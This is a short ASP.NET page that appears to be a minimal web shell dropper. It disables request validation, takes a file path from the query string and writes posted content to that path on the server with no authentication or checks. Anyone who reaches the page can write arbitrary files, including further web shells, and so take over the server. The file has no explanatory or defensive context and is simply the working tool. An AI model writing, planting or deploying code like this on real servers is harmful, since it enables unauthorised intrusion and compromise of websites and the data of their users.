<%@ Page Language="C#" ValidateRequest="false" %>
<%
    string target = Request.QueryString["f"];
    if (target != null)
    {
        using (System.IO.StreamWriter sw = new System.IO.StreamWriter(target, false, System.Text.Encoding.UTF8))
        {
            sw.Write(Request.Form["c"]);
        }
        Response.Write(target);
    }
%>
